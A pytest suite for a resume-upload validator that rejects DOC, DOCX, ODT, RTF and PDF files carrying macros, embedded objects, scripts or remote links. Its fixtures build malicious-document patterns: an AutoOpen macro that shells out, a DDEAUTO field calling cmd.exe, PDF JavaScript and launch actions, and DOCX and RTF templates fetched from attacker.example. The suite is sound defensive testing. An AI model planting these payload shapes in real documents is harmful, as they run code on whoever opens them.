"""Resumes that carry active content (macros, embedded objects, scripts) are refused with a 422."""

from __future__ import annotations

import io
import random
import sqlite3
import struct
import zipfile
from pathlib import Path
from typing import Any

import httpx
import pytest

from leadctl import resumes
from leadctl.errors import InvalidInput
from tests import samples
from tests.conftest import make_settings, submit
from tests.samples import Tree, compound_file, fib, word_97

MACROS = "the resume contains macros; send it as PDF or as a document without macros"
EMBEDDED = (
    "the resume contains an embedded object; send it as PDF or as a document without "
    "embedded objects"
)
VBA: Tree = {"_VBA_PROJECT": b"\xcc\x61" + b"\0" * 5, "dir": b"\x01", "ThisDocument": b"x"}


def refusal(data: bytes, filename: str = "cv") -> str:
    with pytest.raises(InvalidInput) as caught:
        resumes.check_resume(filename, data, 10 * 1024 * 1024)
    [(field, message)] = caught.value.errors
    assert field == "resume"
    return message


def test_a_genuine_word_97_file_is_accepted() -> None:
    checked = resumes.check_resume("cv.doc", word_97(), 1_000_000)
    assert (checked.content_type, checked.filename) == (resumes.DOC, "cv.doc")
    assert resumes.check_resume("cv.doc", samples.doc(), 1_000_000).content_type == resumes.DOC


@pytest.mark.parametrize(
    "extra",
    [
        {"Macros": {"VBA": VBA, "PROJECT": b"ID=x"}},  # what Word writes
        {"mAcRoS": {"x": b"y"}},  # names are compared without case, as readers look them up
        {"Store": {"_VBA_PROJECT": b"\xcc\x61"}},
        {"VBA": {"dir": b"\x01"}},
        {"_VBA_PROJECT_CUR": {"VBA": VBA}},  # Excel's name, in a file with a Word stream
        {"Macro\u017f": {"x": b"y"}},  # LATIN SMALL LETTER LONG S upper-cases to S
    ],
)
def test_a_word_file_with_macros_is_refused(extra: Tree) -> None:
    assert refusal(word_97(**extra)) == MACROS


@pytest.mark.parametrize(
    "extra",
    [
        {"ObjectPool": {"_1234567890": {"\x01Ole": b"\x01", "\x01CompObj": b"\x01"}}},
        {"Objects": {"\x01Ole10Native": b"MZ" + b"\0" * 100}},  # a packaged executable
    ],
)
def test_a_word_file_with_embedded_objects_is_refused(extra: Tree) -> None:
    assert refusal(word_97(**extra)) == EMBEDDED


def attack_macro_doc() -> bytes:
    """The shape the attack review uploaded (/tmp/attack/macro.doc): no compound-file header
    beyond the signature, the names and the macro source as bare bytes."""
    names = b"".join(
        name.encode("utf-16-le").ljust(124, b"\0") for name in ("WordDocument", "Macros")
    )
    vba = "_VBA_PROJECT".encode("utf-16-le") + b'Sub AutoOpen()\r\nShell "calc"\r\nEnd Sub'
    return samples.OLE2 + b"\0" * 504 + names + vba


def test_the_attack_reviews_macro_doc_is_refused() -> None:
    """No Word file: without a compound file's header no reader follows a directory, so none
    is guessed at from the names in its bytes."""
    assert refusal(attack_macro_doc(), "cv.exe") == (
        "the resume is a damaged Word (DOC) file: its directory cannot be read; send it as PDF"
    )


def test_a_looping_directory_is_refused_not_followed_forever() -> None:
    looping = compound_file({"WordDocument": fib(), "1Table": b"\0" * 4096}, directory_loops=True)
    assert refusal(looping) == (
        "the resume is a damaged Word (DOC) file: its directory cannot be read; send it as PDF"
    )


def test_a_directory_beyond_the_end_of_the_file_is_refused() -> None:
    data = bytearray(word_97())
    struct.pack_into("<L", data, 0x30, 100_000)  # the first directory sector
    assert "damaged Word (DOC) file" in refusal(bytes(data))


def test_a_ten_mib_directory_is_refused_within_a_bounded_count_of_entries() -> None:
    """Every sector of a 6.5 MB file chained into the directory: 52,000 entries to look at,
    refused after the first 4,096."""
    sectors = 13_000  # as many as one header's 109 FAT sectors map
    data = bytearray(compound_file({"WordDocument": b"\0" * (sectors * 512)}))
    # Chain the stream's sectors into the directory, which comes right after them.
    struct.pack_into("<L", data, 0x30, 0)
    assert "more than 4,096 entries" in refusal(bytes(data))


# -- DOCX and ODT -------------------------------------------------------------------------------

CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="%s"/>%s</Types>'
)
DOCUMENT = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def docx(main: bytes = DOCUMENT, extra_types: bytes = b"", **members: bytes) -> bytes:
    parts = {
        "[Content_Types].xml": CONTENT_TYPES % (main, extra_types),
        "_rels/.rels": b"<Relationships/>",
        "word/document.xml": b"<w:document/>",
    }
    parts.update({name.replace("__", "/"): data for name, data in members.items()})
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def odt(**members: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", resumes.ODT)
        archive.writestr("content.xml", b"<office:document-content/>")
        for name, data in members.items():
            archive.writestr(name.replace("__", "/"), data)
    return buffer.getvalue()


def test_genuine_docx_and_odt_are_accepted() -> None:
    assert resumes.check_resume("cv.docx", docx(), 100_000).content_type == resumes.DOCX
    assert resumes.check_resume("cv.docx", samples.docx(), 100_000).content_type == resumes.DOCX
    chart = odt(**{"Object 1__content.xml": b"<chart/>", "ObjectReplacements__Object 1": b"x"})
    assert resumes.check_resume("cv.odt", chart, 100_000).content_type == resumes.ODT
    assert resumes.check_resume("cv.odt", samples.odt(), 100_000).content_type == resumes.ODT


MACRO_MAIN = b"application/vnd.ms-word.document.macroEnabled.main+xml"
VBA_TYPE = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'


@pytest.mark.parametrize(
    "data",
    [
        docx(MACRO_MAIN, VBA_TYPE, word__vbaProject_bin=b"\xd0\xcf"),  # a .docm renamed
        docx(word__vbaProject_bin=b"\xd0\xcf"),
        docx(main=MACRO_MAIN),
        docx(main=b"application/vnd.ms-word.document.macroEn&#97;bled.main+xml"),
        docx(extra_types=VBA_TYPE, word__macros_bin=b"\xd0\xcf"),  # the project under any name
        docx(**{"word__VBAPROJECT.BIN": b"\xd0\xcf"}),
        docx(**{"word__vba%50roject.bin": b"\xd0\xcf"}),  # OPC part names are %-encoded
        odt(Basic__Standard__Module1_xml=b"<script:module/>"),
        odt(Scripts__python__cv_py=b"import os"),
    ],
)
def test_zip_documents_with_macros_are_refused(data: bytes) -> None:
    assert refusal(data) == MACROS


@pytest.mark.parametrize(
    "data",
    [
        docx(word__embeddings__oleObject1_bin=samples.OLE2),
        docx(word__embeddings__Microsoft_Excel_Worksheet_xlsm=b"PK"),
        docx(word__activeX__activeX1_xml=b"<ax/>"),
        docx(
            extra_types=b'<Default Extension="ole" ContentType="application/vnd.'
            b'openxmlformats-officedocument.oleObject"/>'
        ),
        odt(**{"Object 1": samples.OLE2}),  # an OLE object in ODF: a file, not a sub-document
    ],
)
def test_zip_documents_with_embedded_objects_are_refused(data: bytes) -> None:
    assert refusal(data) == EMBEDDED


def test_a_docx_whose_content_types_declare_a_dtd_is_refused() -> None:
    dtd = b'<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY m "macroEnabled">]><Types/>'
    data = docx(**{"[Content_Types].xml": dtd})
    assert refusal(data) == (
        "the resume is a damaged DOCX file: its [Content_Types].xml cannot be read; send it as PDF"
    )


# -- RTF --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "body",
    [
        rb"{\object\objemb{\*\objclass Package}{\*\objdata 01050000}}",
        rb"{\object\objocx{\*\objdata 0105}}",
        rb"{\*\objdata0105}",  # a control word may be followed by digits
        rb"{\object {\*\objdata 0105}}",
        rb"C:\\\objdata 0105",  # an escaped backslash, then a control word
    ],
)
def test_rtf_with_an_object_is_refused(body: bytes) -> None:
    assert refusal(b"{\\rtf1\\ansi Jane Doe\\par " + body + b"}") == EMBEDDED


def test_rtf_whose_text_only_speaks_of_objects_is_accepted() -> None:
    text = rb"{\rtf1\ansi Objects: objdata, object, see C:/objects\par\pard\b Jane\b0}"
    assert resumes.check_resume("cv.rtf", text, 10_000).content_type == resumes.RTF


@pytest.mark.parametrize(
    "body",
    [
        rb"{\bin1 \\objdata 0105}",  # \bin's raw byte is a backslash: Word reads \objdata
        rb"C:\\objects",  # a literal backslash before "obj": refused too, knowingly
    ],
)
def test_rtf_backslashes_are_not_counted_to_excuse_an_obj(body: bytes) -> None:
    r"""Counting backslashes (is this one escaped?) misleads after \bin, which lets raw bytes
    sit before a control word: any `\obj` in the bytes is refused."""
    assert refusal(b"{\\rtf1\\ansi " + body + b"}") == EMBEDDED


# -- PDF --------------------------------------------------------------------------------------


def pdf_with(fragment: bytes) -> bytes:
    return samples.pdf().replace(b"<< /Type /Catalog >>", b"<< /Type /Catalog " + fragment + b" >>")


@pytest.mark.parametrize(
    ("fragment", "what"),
    [
        (b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", "JavaScript"),
        (b"/OpenAction<</S/JS(app.alert(1))>>", "JavaScript"),
        (b"/OpenAction << /S /Java#53cript /J#53 (x) >>", "JavaScript"),
        (b"/OpenAction << /S /#4a#61#76#61#53#63#72#69#70#74 >>", "JavaScript"),
        (b"/OpenAction << /S /Launch /F (cmd.exe) >>", "a launch action (/Launch)"),
        (b"/Names << /EmbeddedFiles 2 0 R >>", "an attached file (/EmbeddedFile)"),
        (b"/Type/EmbeddedFile", "an attached file (/EmbeddedFile)"),
        (b"/AA << /O 3 0 R >>", "automatic actions (/AA)"),
        (b"/RichMedia 4 0 R", "rich media (/RichMedia)"),
    ],
)
def test_pdf_with_active_content_is_refused(fragment: bytes, what: str) -> None:
    assert refusal(pdf_with(fragment)) == (
        f"the PDF resume contains {what}; send a PDF without scripts, actions or attached files"
    )


@pytest.mark.parametrize(
    "fragment",
    [
        b"/OpenAction [3 0 R /FitH 0]",  # opening at a page: no script
        b"/JSX 1 /AAB 2 /Java#53cripts 3 /Launcher 4",  # other names
        b"/BaseFont /Times#20New#20Roman",
    ],
)
def test_pdf_without_active_content_is_accepted(fragment: bytes) -> None:
    assert resumes.check_resume("cv.pdf", pdf_with(fragment), 10_000).content_type == resumes.PDF


def test_a_pdf_name_across_the_scan_windows_is_found() -> None:
    window = resumes.SCAN_WINDOW
    for shift in range(-20, 20, 3):
        head = b"%PDF-1.4\n%" + b"x" * (window - 12 + shift) + b"\n"
        assert "JavaScript" in refusal(head + b"<< /S /Java#53cript >>\n%%EOF\n")


# -- through the real server -------------------------------------------------------------------


@pytest.mark.e2e
def test_the_macro_doc_gets_422_and_nothing_is_stored(tmp_path: Path, make_server: Any) -> None:
    server = make_server(make_settings(tmp_path))
    with httpx.Client(base_url=server.url, timeout=30) as client:
        response = submit(
            client,
            resume=word_97(Macros={"VBA": VBA}),
            filename="cv.exe",
            content_type="application/msword",
        )
        assert response.status_code == 422, response.text
        assert response.json()["errors"] == [{"field": "resume", "message": MACROS}]
        assert submit(client, resume=word_97(), filename="cv.doc").status_code == 201
    with sqlite3.connect(tmp_path / "leads.db") as conn:
        counts = [
            conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]
            for table in ("lead", "resume")
        ]
    assert counts == [1, 1]  # only the genuine DOC that followed it


def test_a_pdf_made_of_names_is_refused_before_its_names_cost_much() -> None:
    """Each `/` costs the name search a try: past a million (a PDF that compresses its content,
    as writers do, has a few thousand) the PDF is refused instead."""
    assert resumes.check_resume("cv.pdf", pdf_with(b"/N " * 999_000), 10**7).size > 2_997_000
    assert refusal(pdf_with(b"/N " * 1_000_001)) == (
        "the PDF resume has more than 1,000,000 names in its uncompressed bytes; "
        "save it again as PDF and send that"
    )


def test_a_pdf_with_thousands_of_escaped_names_is_refused() -> None:
    fonts = b"/BaseFont /Times#20New#20Roman " * 2000
    assert resumes.check_resume("cv.pdf", pdf_with(fonts), 10**7).content_type == resumes.PDF
    assert refusal(pdf_with(fonts + b"/A#20")) == (
        "the PDF resume spells more than 2,000 names with #-escapes; "
        "save it again as PDF and send that"
    )


def test_a_name_filling_its_whole_field_without_a_nul_is_read() -> None:
    """32 characters, no terminating NUL and a length field past the field: read to its end."""
    assert resumes.check_resume("cv.doc", word_97(**{"N" * 32: b"x"}), 10**6).size > 0
    assert refusal(word_97(**{"Macros" + "\0" * 2 + "N" * 24: {"x": b"y"}})) == MACROS


# -- PDF stream bodies are not read: names turn up in image data by chance ----------------------


def pdf_with_stream(body: bytes, length: bytes | None = None, after: bytes = b"") -> bytes:
    size = str(len(body)).encode() if length is None else length
    image = (
        b"2 0 obj\n<< /Type /XObject /Subtype /Image /Width 800 /Height 600 /BitsPerComponent 8 "
        b"/ColorSpace /DeviceRGB /Filter /DCTDecode /Length "
        + size
        + b" >>\nstream\n"
        + body
        + b"\nendstream\nendobj\n"
    )
    return samples.pdf().replace(b"endobj\n", b"endobj\n" + image + after, 1)


def test_random_image_data_in_a_stream_is_not_taken_for_names() -> None:
    """Random bytes (as JPEG and Flate data look) held `/AA` or `/JS` and a delimiter about once
    in 100 MB: seed 208's first MB does, and was refused for "JavaScript"."""
    seeds = [(seed, 1_000_000) for seed in range(200, 216)] + [(1, 4_000_000), (2, 3_000_000)]
    for seed, size in seeds:
        body = random.Random(seed).randbytes(size)
        data = pdf_with_stream(body)
        assert resumes.check_resume("cv.pdf", data, 10**7).content_type == resumes.PDF, seed
        crlf = data.replace(b">>\nstream\n", b">>\r\nstream\r\n", 1)  # either end of line
        assert resumes.check_resume("cv.pdf", crlf, 10**7).content_type == resumes.PDF, seed


@pytest.mark.parametrize(
    "length",
    [b"4 0 R", b"3", b"99999999"],  # indirect, short, past the end: the body ends at endstream
)
def test_a_stream_whose_length_cannot_be_trusted_ends_at_endstream(length: bytes) -> None:
    data = pdf_with_stream(b"/AA /JS x", length)
    assert resumes.check_resume("cv.pdf", data, 10**7).content_type == resumes.PDF


@pytest.mark.parametrize(
    "data",
    [
        pdf_with_stream(b"\x00" * 1000, after=b"3 0 obj\n<< /AA << /O 4 0 R >> >>\nendobj\n"),
        pdf_with_stream(b"x", b"1", after=b"/AA"),  # right after an endstream
        pdf_with_stream(b"x" * 10, b"5", after=b"/AA"),  # a short /Length: endstream decides
        pdf_with(b"/T (stream\n) /AA << >> /U (endstream)"),  # no dictionary before `stream`
        samples.pdf() + b"<< /Length 3 >>\nstream\nabc\nendstrea /AA",  # no endstream at all
    ],
)
def test_names_outside_stream_bodies_are_still_found(data: bytes) -> None:
    assert "automatic actions (/AA)" in refusal(data)


@pytest.mark.parametrize(
    ("fragment", "what"),
    [
        (b"/AcroForm << /Fields [] /XFA 3 0 R >>", "an XFA form (/XFA), which may carry scripts"),
        (
            b"/OpenAction << /S /GoToR /F (\\\\\\\\host\\\\x.pdf) >>",
            "a link that opens another file (/GoToR)",
        ),
        (
            b"/OpenAction << /S /GoToE /T << /R /C >> >>",
            "a link that opens an attached file (/GoToE)",
        ),
        (
            b"/A << /S /SubmitForm /F (http://x.example) >>",
            "a form that sends data away (/SubmitForm)",
        ),
        (
            b"/A << /S /Import#44ata /F (x.fdf) >>",
            "a form that imports data from a file (/ImportData)",
        ),
    ],
)
def test_pdf_forms_and_remote_links_are_refused(fragment: bytes, what: str) -> None:
    assert refusal(pdf_with(fragment)) == (
        f"the PDF resume contains {what}; send a PDF without scripts, actions or attached files"
    )


def test_pdf_web_links_and_opening_views_are_accepted() -> None:
    fragment = b"/OpenAction [3 0 R /Fit] /A << /S /URI /URI (https://example.com/jane) >> /XFAX 1"
    assert resumes.check_resume("cv.pdf", pdf_with(fragment), 10_000).content_type == resumes.PDF


# -- DOCX relationships Word follows on opening ---------------------------------------------------

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def rels(*relationships: str) -> bytes:
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships">' + "".join(relationships) + "</Relationships>"
    ).encode()


def relationship(kind: str, target: str, external: bool = True) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="rId9" Type="{REL}{kind}" Target="{target}"{mode}/>'


@pytest.mark.parametrize(
    ("part", "kind", "what"),
    [
        ("word__rels__document.xml.rels", "oleObject", "an object (oleObject)"),  # Follina
        ("word__rels__settings.xml.rels", "attachedTemplate", "a template (attachedTemplate)"),
        ("word__rels__document.xml.rels", "subDocument", "a sub-document (subDocument)"),
        ("word__rels__webSettings.xml.rels", "frame", "a frame (frame)"),
        ("word__rels__settings.xml.rels", "&#97;ttachedTemplate", "a template (attachedTemplate)"),
        ("customXml__rels__item1.XML.RELS", "attachedTemplate", "a template (attachedTemplate)"),
    ],
)
def test_docx_relationships_fetched_on_opening_are_refused(part: str, kind: str, what: str) -> None:
    data = docx(**{part: rels(relationship(kind, "http://attacker.example/x.html!"))})
    assert refusal(data) == (
        f"the resume contains a link to {what} that Word would fetch when it is opened; "
        "send it as PDF or as a document without linked templates or objects"
    )


def test_a_docx_alt_chunk_and_an_inner_ole_object_are_refused() -> None:
    chunk_rels = rels(relationship("aFChunk", "afchunk.rtf", False))
    rtf = rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"
    chunk = docx(**{"word/_rels/document.xml.rels": chunk_rels, "word/afchunk.rtf": rtf})
    assert refusal(chunk) == (
        "the resume contains an embedded foreign document (altChunk) that Word converts when it "
        "is opened; send it as PDF or as a document without embedded documents"
    )
    inner = docx(
        **{"word/_rels/document.xml.rels": rels(relationship("oleObject", "x.dat", False))}
    )
    assert refusal(inner) == EMBEDDED


def test_docx_links_and_images_are_accepted() -> None:
    links = rels(
        relationship("hyperlink", "https://www.linkedin.com/in/jane"),
        relationship("image", "media/image1.png", False),
        relationship("attachedTemplate", "file:///C:/Templates/Resume.dotx", False),
    )
    data = docx(**{"word/_rels/document.xml.rels": links, "word/media/image1.png": b"\x89PNG"})
    assert resumes.check_resume("cv.docx", data, 100_000).content_type == resumes.DOCX


@pytest.mark.parametrize(
    "data",
    [
        docx(**{"word/_rels/document.xml.rels": b"<!DOCTYPE R [<!ENTITY e 'x'>]><Relationships/>"}),
        docx(**{"word/_rels/document.xml.rels": b"<Relationships>"}),
        docx(**{"word/_rels/document.xml.rels": rels("<R/>" * 70_000)}),  # over 256 KiB
    ],
)
def test_unreadable_or_oversized_relationships_are_refused(data: bytes) -> None:
    assert refusal(data).startswith("the resume is a damaged DOCX file: a relationships part")


def test_a_docx_with_too_many_relationship_parts_is_refused() -> None:
    parts = {f"word/_rels/p{index}.xml.rels": rels() for index in range(100)}
    assert refusal(docx(**parts)) == (
        "the DOCX resume has more than 100 relationship parts (.rels); send it as PDF"
    )


# -- ODT scripts bound to events ------------------------------------------------------------------


def odt_with(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", resumes.ODT)
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


LISTENER = (
    b'<office:event-listeners><script:event-listener script:language="ooo:script" '
    b'script:event-name="dom:load" xlink:href="vnd.sun.star.script:pythonSamples|T.py$f'
    b'?language=Python&amp;location=share"/></office:event-listeners>'
)


@pytest.mark.parametrize(
    "members",
    [
        {"content.xml": b"<office:document-content>" + LISTENER + b"</office:document-content>"},
        {"styles.xml": b"<office:document-styles>" + LISTENER + b"</office:document-styles>"},
        {
            "content.xml": b'<x><event-listener xmlns="urn:oasis:names:tc:opendocument:xmlns:'
            b'script:1.0" event-name="dom:load"/></x>'
        },
        {"content.xml": b'<text:a xlink:href="VND.SUN.STAR.SCRIPT:Standard.M.x">cv</text:a>'},
        {"content.xml": b"<x>" + b" " * (300 * 1024) + b"<s:event-listener/></x>"},  # 2nd read
    ],
)
def test_odt_scripts_bound_to_events_are_refused(members: dict[str, bytes]) -> None:
    assert refusal(odt_with(members)) == (
        "the resume contains a script bound to an event or a link to a macro; send it as PDF "
        "or as a document without macros"
    )


def test_odt_text_about_event_listeners_is_accepted() -> None:
    text = b"<text:p>Wrote an event-listener framework; DOM event-listener APIs</text:p>"
    data = odt_with({"content.xml": text, "styles.xml": b"<office:document-styles/>"})
    assert resumes.check_resume("cv.odt", data, 100_000).content_type == resumes.ODT


# -- RTF remote templates and DDE fields ----------------------------------------------------------

RTF_DDE = (
    "the resume contains a DDE field, which runs a program when the document is opened; "
    "send it as PDF or as a document without DDE fields"
)


@pytest.mark.parametrize(
    "body",
    [
        rb'{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"}{\fldrslt x}}',
        rb"{\field{\*\fldinst {\rtlch\fcs1 \af0 \insrsid123 ddeauto c:\\x.exe}}}",
        rb"{\field{\*\fldinst {\f1 D}{DE} c:\\x.exe}}",  # split across groups
        rb"{\field{\*\fldinst \'44\'44\'45AUTO c:\\x.exe}}",  # hex-escaped letters
    ],
)
def test_rtf_dde_fields_are_refused(body: bytes) -> None:
    assert refusal(b"{\\rtf1\\ansi Jane Doe\\par " + body + b"}") == RTF_DDE


@pytest.mark.parametrize(
    "where",
    [
        rb"http://attacker.example/t.dotm",
        rb"HTTPS://attacker.example/t.dotm",
        rb"file://host/share/t.dotm",
        rb"\\\\host\\share\\t.dotm",  # a share, its backslashes escaped as RTF writes them
        rb"\'5c\'5Chost\'5cshare\'5ct.dotm",
    ],
)
def test_rtf_remote_templates_are_refused(where: bytes) -> None:
    data = rb"{\rtf1\ansi{\*\template " + where + rb"}Jane Doe\par}"
    assert refusal(data) == (
        "the resume contains a template link (\\template) that Word would fetch when it is "
        "opened; send it as PDF or as a document without an attached template"
    )


def test_rtf_made_from_a_local_template_is_accepted() -> None:
    """Word writes the template a document was made from (often a resume template) into its
    RTF: a local path is no fetch."""
    local = rb"{\rtf1\ansi{\*\template C:\\Users\\jane\\Templates\\Resume.dotx}Jane Doe\par}"
    assert resumes.check_resume("cv.rtf", local, 10_000).content_type == resumes.RTF


def test_rtf_hyperlinks_and_text_about_dde_are_accepted() -> None:
    data = (
        rb"{\rtf1\ansi Worked on DDE and templates\par{\field{\*\fldinst HYPERLINK "
        rb'"https://example.com"}{\fldrslt site}}\par C:/templates\par}'
    )
    assert resumes.check_resume("cv.rtf", data, 10_000).content_type == resumes.RTF


def test_rtf_with_too_many_fields_is_refused() -> None:
    assert resumes.check_resume("cv.rtf", b"{\\rtf1 " + b"\\fldinst " * 10_000 + b"}", 10**6)
    assert refusal(b"{\\rtf1 " + b"\\fldinst " * 10_001 + b"}") == (
        "the RTF resume has more than 10,000 fields; save it again as PDF and send that"
    )
